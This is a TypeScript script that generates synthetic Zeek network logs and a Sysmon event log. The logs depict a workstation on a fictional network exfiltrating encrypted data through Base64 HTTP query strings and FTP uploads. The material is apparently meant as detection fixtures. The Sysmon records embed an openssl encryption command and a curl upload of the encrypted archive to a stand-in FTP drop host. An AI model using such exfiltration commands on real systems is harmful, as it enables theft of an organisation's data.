// Writes samples/: a small, deterministic day of Zeek logs from a made-up office network (10.20.0.0/16) in
// which one workstation exfiltrates — Base64-encoded ciphertext in HTTP URIs and large FTP uploads — among
// ordinary web, DNS, mail and file-server traffic, plus that workstation's Sysmon log (as `wevtutil qe /f:xml`
// exports it) showing the archive being encrypted, staged and sent. Run with `npm run samples`; output is
// identical every run.
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { CONN_COLUMNS, HTTP_COLUMNS, conn, httpRequest, zeekTsv } from '../test/zeek-fixtures.js';

const out = join(import.meta.dirname, '..', 'samples');
const DAY = 1_767_258_000; // 2026-01-01T09:00:00Z
const MB = 1_000_000;

/** Deterministic pseudo-random bytes: SHA-256 in counter mode over a label. */
function bytes(label: string, n: number): Buffer {
  const chunks: Buffer[] = [];
  for (let i = 0; chunks.length * 32 < n; i++) chunks.push(createHash('sha256').update(`${label}:${i}`).digest());
  return Buffer.concat(chunks).subarray(0, n);
}

function pick<T>(label: string, items: readonly T[]): T {
  return items[bytes(label, 4).readUInt32BE(0) % items.length]!;
}

const workstations = Array.from({ length: 12 }, (_, i) => `10.20.1.${10 + i}`);
const exfilHost = '10.20.1.17';
const sites = [
  ['93.184.215.14', 'www.example.com'], ['151.101.1.69', 'news.example.net'], ['142.250.74.46', 'search.example.org'],
  ['185.199.108.153', 'docs.example.io'], ['104.16.132.229', 'cdn.example.com'],
] as const;
const dropHost = '203.0.113.66';
const ftpDrop = '198.51.100.23';

const connRows: ReturnType<typeof conn>[] = [];
const httpRows: ReturnType<typeof httpRequest>[] = [];

// Ordinary browsing: small requests out, bigger responses in.
for (let i = 0; i < 400; i++) {
  const host = pick(`ws${i}`, workstations);
  const [ip, name] = pick(`site${i}`, sites);
  const ts = DAY + i * 61;
  connRows.push(conn(ts, host, ip, 443, 900 + (i % 7) * 120, 40_000 + (i % 13) * 9_000));
  if (i % 4 === 0) {
    connRows.push(conn(ts + 1, host, ip, 80, 520, 18_000));
    httpRows.push(httpRequest(ts + 1, host, ip, 'GET', name, `/articles/${2026 + (i % 3)}/${i}/index.html?ref=home&page=${i % 9}`, 0, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'));
  }
}
// DNS and mail: many small exchanges.
for (let i = 0; i < 200; i++) connRows.push({ ...conn(DAY + i * 120, pick(`dns${i}`, workstations), '10.20.0.53', 53, 64, 180), proto: 'udp', service: 'dns', conn_state: 'SF', history: 'Dd' });
for (let i = 0; i < 20; i++) connRows.push(conn(DAY + i * 1400, pick(`mail${i}`, workstations), '10.20.0.25', 25, 60_000, 2_000));
// Nightly-style copies to the internal file server: big, but only two of them (below the seed's count of 3).
connRows.push(conn(DAY + 3_600, '10.20.1.12', '10.20.0.40', 445, 180 * MB, 2 * MB));
connRows.push(conn(DAY + 5_400, '10.20.1.12', '10.20.0.40', 445, 95 * MB, 1 * MB));

// The exfiltration: AES ciphertext, Base64-encoded, in the query string of many GETs to one server…
for (let i = 0; i < 25; i++) {
  // Human-paced, not a timer: 20–70 s apart.
  const ts = DAY + 7_200 + i * 45 + (bytes(`gap${i}`, 1)[0]! % 50) - 25;
  const chunk = bytes(`exfil${i}`, 180).toString('base64');
  connRows.push(conn(ts, exfilHost, dropHost, 80, 560, 300));
  httpRows.push(httpRequest(ts, exfilHost, dropHost, 'GET', 'updates.example-cdn.net', `/v2/telemetry?id=${i}&blob=${encodeURIComponent(chunk)}`, 0, 'Mozilla/5.0'));
}
// …a POST of a 48 kB Base64 body (Zeek shows its length; the URI carries the session token)…
httpRows.push(httpRequest(DAY + 8_500, exfilHost, dropHost, 'POST', 'updates.example-cdn.net', `/v2/upload?session=${bytes('session', 96).toString('base64').replace(/[+/=]/g, 'A')}`, 48_000, 'Mozilla/5.0'));
connRows.push(conn(DAY + 8_500, exfilHost, dropHost, 80, 48_400, 300));
// …and the staged archive (`openssl enc` output) uploaded over FTP in four parts.
for (let i = 0; i < 4; i++) connRows.push({ ...conn(DAY + 9_000 + i * 700, exfilHost, ftpDrop, 21, 38 * MB + i * 1_234_567, 4_000), service: 'ftp' });

connRows.sort((a, b) => Number(a.ts) - Number(b.ts));
mkdirSync(out, { recursive: true });
writeFileSync(join(out, 'conn.log'), zeekTsv('conn', CONN_COLUMNS, connRows));
// The same HTTP log as Zeek JSON lines, gzipped, as sites that ship logs to a SIEM keep them.
const httpJson = httpRows.map((row) => JSON.stringify({ ...row, ts: Number(row.ts) })).join('\n') + '\n';
writeFileSync(join(out, 'http.json.log.gz'), gzipSync(httpJson, { level: 9, mtime: 0 } as never));

/** One Sysmon event as `wevtutil qe … /f:xml` writes it (values XML-escaped). */
function sysmonEvent(id: number, record: number, ts: number, data: Record<string, string>): string {
  const xml = (v: string): string => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/'/g, '&apos;').replace(/"/g, '&quot;');
  const time = new Date(ts * 1000).toISOString();
  const fields = Object.entries({ RuleName: '-', UtcTime: time.replace('T', ' ').replace('Z', ''), ...data })
    .map(([name, value]) => `<Data Name='${name}'>${xml(value)}</Data>`).join('');
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='${time.replace('Z', '0000Z')}'/><EventRecordID>${record}</EventRecordID><Correlation/><Execution ProcessID='3112' ThreadID='4012'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws17.corp.example</Computer><Security UserID='S-1-5-18'/></System><EventData>${fields}</EventData></Event>`;
}

const shell = { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000001a00}', ProcessId: '6120', Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe' };
const openssl = '"C:\\Program Files\\OpenSSL-Win64\\bin\\openssl.exe" enc -aes-256-cbc -salt -pbkdf2 -in C:\\Users\\alice\\Documents\\q4-ledger.7z -out C:\\Users\\alice\\Documents\\exfil\\q4.enc -pass pass:Winter2025!';
const curl = 'curl.exe -s -T C:\\Users\\alice\\Documents\\exfil\\q4.enc ftp://198.51.100.23/in/ --user drop:drop';
const parent = { ParentProcessGuid: shell.ProcessGuid, ParentProcessId: shell.ProcessId, ParentImage: shell.Image, ParentCommandLine: shell.CommandLine };
const sysmon = [
  // Ordinary activity first: a browser and an editor, so the log is not only the attack.
  sysmonEvent(1, 4101, DAY + 600, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000001000}', ProcessId: '4424', Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', CommandLine: '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"', CurrentDirectory: 'C:\\Users\\alice\\', User: 'CORP\\alice', Hashes: 'SHA256=' + bytes('ff', 32).toString('hex').toUpperCase(), ParentProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000000100}', ParentProcessId: '4100', ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\Explorer.EXE' }),
  sysmonEvent(11, 4102, DAY + 1800, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000001100}', ProcessId: '5010', Image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', TargetFilename: 'C:\\Users\\alice\\Documents\\q4-ledger.xlsx', CreationUtcTime: new Date((DAY + 1800) * 1000).toISOString().replace('T', ' ').replace('Z', ''), User: 'CORP\\alice' }),
  // The staging: encrypt the archive into the exfil folder, then send it over FTP.
  sysmonEvent(1, 4201, DAY + 8_700, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002200}', ProcessId: '7332', Image: 'C:\\Program Files\\OpenSSL-Win64\\bin\\openssl.exe', CommandLine: openssl, CurrentDirectory: 'C:\\Users\\alice\\Documents\\', User: 'CORP\\alice', Hashes: 'SHA256=' + bytes('openssl', 32).toString('hex').toUpperCase(), ...parent }),
  sysmonEvent(11, 4202, DAY + 8_760, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002200}', ProcessId: '7332', Image: 'C:\\Program Files\\OpenSSL-Win64\\bin\\openssl.exe', TargetFilename: 'C:\\Users\\alice\\Documents\\exfil\\q4.enc', CreationUtcTime: new Date((DAY + 8_760) * 1000).toISOString().replace('T', ' ').replace('Z', ''), User: 'CORP\\alice' }),
  sysmonEvent(1, 4203, DAY + 8_990, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002300}', ProcessId: '7410', Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: curl, CurrentDirectory: 'C:\\Users\\alice\\Documents\\', User: 'CORP\\alice', Hashes: 'SHA256=' + bytes('curl', 32).toString('hex').toUpperCase(), ...parent }),
  sysmonEvent(3, 4204, DAY + 9_000, { ProcessGuid: '{7d6a1e2f-0c11-6770-2a01-000000002300}', ProcessId: '7410', Image: 'C:\\Windows\\System32\\curl.exe', User: 'CORP\\alice', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: exfilHost, SourceHostname: 'ws17.corp.example', SourcePort: String(connRows.find((r) => Number(r.ts) === DAY + 9_000)?.['id.orig_p'] ?? 50000), SourcePortName: '-', DestinationIsIpv6: 'false', DestinationIp: ftpDrop, DestinationHostname: '-', DestinationPort: '21', DestinationPortName: 'ftp' }),
];
writeFileSync(join(out, 'sysmon-ws17.xml'), sysmon.join('\n') + '\n');
process.stdout.write(`wrote ${connRows.length} conn rows, ${httpRows.length} http rows and ${sysmon.length} Sysmon events to ${out}\n`);
